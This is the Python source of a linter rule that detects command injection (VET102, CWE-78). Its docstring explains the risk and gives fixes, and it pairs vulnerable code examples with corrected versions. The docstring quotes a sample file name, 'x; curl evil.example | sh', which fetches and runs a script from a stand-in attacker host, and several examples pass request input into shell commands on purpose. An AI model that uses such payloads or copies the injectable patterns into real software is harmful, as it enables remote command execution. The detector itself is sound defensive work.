"""A value that becomes part of a command line lets its sender run commands of their own.

## Why it matters
A shell gives meaning to `;`, `|`, `$(…)`, `&&` and line breaks.  A file name such as `x; curl evil.example | sh` is a command
as soon as it stands in the string that a shell gets, and runs with all rights of the program.  Assistants write
`os.system(f"convert {name} out.png")` because it is how one would type it, and hand such strings on to helpers named
`run_command` or `_run_ssh`, where nobody can tell the values from the command any more.

A finding is *high* where what a stranger sends gets into the command, or says which program is run; *medium* where it is a
value of which the code doesn't show where it comes from.

## How to fix it
Hand over a list, without a shell, so that each value is one argument, whatever is in it:

    subprocess.run(["convert", name, "out.png"], check=True)

Let helpers of your own take a list, too.  Where a shell is really needed, as at the other end of an SSH connection, quote each
value with `shlex.quote`.  Take the name of the program from your own code, never from input.

## When it is fine
When the value is one of a fixed set, is a number, or was quoted by `shlex.quote`.

## References
- [Python: security considerations of subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [OWASP: OS command injection defence](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
- [Python: shlex.quote](https://docs.python.org/3/library/shlex.html#shlex.quote)
"""

from __future__ import annotations

import ast
from collections.abc import Iterator

from vetline.core.cwe import Cwe
from vetline.core.edit import Fix
from vetline.core.severity import Confidence, Severity
from vetline.rules.base import CheckContext, Example, FixSite, Match, Rule
from vetline.rules.commands import injections
from vetline.rules.shell_quoting import quoted
from vetline.rules.weaknesses.b602_subprocess_popen_with_shell_equals_true import without_shell


def check(context: CheckContext) -> Iterator[Match]:
    for injection in injections(context):
        yield injection.match


def fix(site: FixSite) -> Iterator[Fix]:
    node: ast.AST | None = site.node
    while isinstance(node, ast.expr | ast.keyword):
        parent = site.parent_of(node)
        if isinstance(node, ast.Call) and node is not site.node:
            yield from without_shell(node, site)
            break
        node = parent
    yield from quoted(site.node, site)


RULE = Rule(
    id="VET102",
    name="command-injection",
    cwe=Cwe(78),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    message="Input reaches a command line: its sender can run commands of their own.",
    bad=(
        Example(
            "import os\nfrom flask import request\n\n\ndef ping():\n    host = request.args['host']\n"
            "    os.system(f'ping -c 1 {host}')\n",
            (
                "import os\nimport shlex\nfrom flask import request\n\n\ndef ping():\n"
                "    host = request.args['host']\n    os.system(f'ping -c 1 {shlex.quote(str(host))}')\n"
            ),
        ),
        Example(
            "import subprocess\n\n\ndef convert(name):\n"
            '    subprocess.run(f"convert {name} out.png", shell=True, check=True)\n',
            'import subprocess\n\n\ndef convert(name):\n    subprocess.run(["convert", str(name), "out.png"], check=True)\n',
        ),
        # Which program it is says the sender.
        Example(
            "import shlex\nimport subprocess\n\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n"
            '@app.post("/run")\ndef run(command: str):\n'
            "    return subprocess.check_output(shlex.split(command), text=True)\n"
        ),
        # A helper of the project's own, which may be anywhere.
        Example(
            "class Driver:\n    def delete_host(self, host_name):\n"
            "        ssh_cmd = 'svctask rmhost %s ' % host_name\n        out, err = self._run_ssh(ssh_cmd)\n"
            "        return not out.strip()\n",
            (
                "import shlex\n\n\nclass Driver:\n    def delete_host(self, host_name):\n"
                "        ssh_cmd = 'svctask rmhost %s ' % shlex.quote(str(host_name))\n"
                "        out, err = self._run_ssh(ssh_cmd)\n        return not out.strip()\n"
            ),
        ),
        Example(
            "import asyncio\n\nfrom aiohttp import web\n\n\nasync def thumbnail(request):\n"
            '    name = request.query["name"]\n'
            '    process = await asyncio.create_subprocess_shell("convert -resize 64x64 " + name + " out.png")\n'
            '    await process.wait()\n    return web.FileResponse("out.png")\n',
            (
                "import asyncio\nimport shlex\n\nfrom aiohttp import web\n\n\nasync def thumbnail(request):\n"
                '    name = request.query["name"]\n'
                '    process = await asyncio.create_subprocess_shell("convert -resize 64x64 " + shlex.quote(name) + "'
                ' out.png")\n'
                '    await process.wait()\n    return web.FileResponse("out.png")\n'
            ),
        ),
        Example(
            "import paramiko\n\n\ndef restart(host, service):\n    client = paramiko.SSHClient()\n"
            '    client.connect(host)\n    client.exec_command("sudo systemctl restart {}".format(service))\n',
            (
                "import shlex\n\nimport paramiko\n\n\ndef restart(host, service):\n    client = paramiko.SSHClient()\n"
                "    client.connect(host)\n"
                '    client.exec_command("sudo systemctl restart {}".format(shlex.quote(str(service))))\n'
            ),
        ),
        # A shell, though `shell=True` is not there.
        Example(
            "import subprocess\nfrom flask import request\n\n\ndef archive():\n"
            '    target = request.form.get("folder")\n'
            '    subprocess.Popen(["bash", "-c", f"tar czf backup.tgz {target}"])\n',
            (
                "import shlex\nimport subprocess\nfrom flask import request\n\n\ndef archive():\n"
                '    target = request.form.get("folder")\n'
                '    subprocess.Popen(["bash", "-c", f"tar czf backup.tgz {shlex.quote(str(target))}"])\n'
            ),
        ),
        Example(
            "import os\n\n\ndef execute(line):\n    return os.popen(line).read()\n\n\ndef handler(event):\n"
            '    command = "du -sh"\n    if event.path:\n        command += " " + event.path\n'
            "    return execute(command)\n"
        ),
    ),
    good=(
        """\
import subprocess


def getoutput(command):
    return subprocess.run(command, shell=True, capture_output=True, timeout=9).stdout
""",
        (
            "from setuptools import Command\n\n\nclass Develop(Command):\n    def run(self):\n"
            "        for part in self.parts:\n            self.run_command(f'install_{part}')\n"
        ),
        (
            "import subprocess\nfrom flask import request\n\n\ndef ping():\n    host = request.args['host']\n"
            "    subprocess.run(['ping', '-c', '1', host])\n"
        ),
        (
            "import os\nimport shlex\n\n\ndef convert(name, width: int):\n"
            '    os.system("convert -resize %dx%d %s out.png" % (width, width, shlex.quote(name)))\n'
        ),
        (
            'import os\n\nfrom flask import abort, request\n\nSERVICES = ("web", "worker")\n\n\n'
            'def restart():\n    service = request.form["service"]\n    if service not in SERVICES:\n'
            '        abort(400)\n    os.system(f"systemctl restart {service}")\n'
        ),
        (
            'import subprocess\n\nOUTPUT = "/srv/out"\n\n\ndef clean():\n'
            '    subprocess.run(f"rm -rf {OUTPUT}/*.tmp", shell=True, check=True)\n'
        ),
        (
            "class Driver:\n    def delete_host(self, host_name):\n"
            '        out, err = self._run_ssh(["svctask", "rmhost", host_name])\n'
            '        self.log_command("svctask rmhost %s" % host_name)\n        return not out.strip()\n'
        ),
        (
            "import paramiko\n\n\ndef uptime(host):\n    client = paramiko.SSHClient()\n"
            '    client.connect(host)\n    return client.exec_command("uptime")\n'
        ),
        (
            "import asyncio\n\n\nasync def thumbnail(request):\n"
            '    process = await asyncio.create_subprocess_exec("convert", "-resize", "64x64", "--", re'
            'quest.query["name"], "out.png")\n'
            "    await process.wait()\n"
        ),
    ),
    check=check,
    fix=fix,
    leaves=frozenset({"B603", "B607"}),
    supersedes=frozenset({"B601", "B602", "B604", "B605", "B609"}),
)
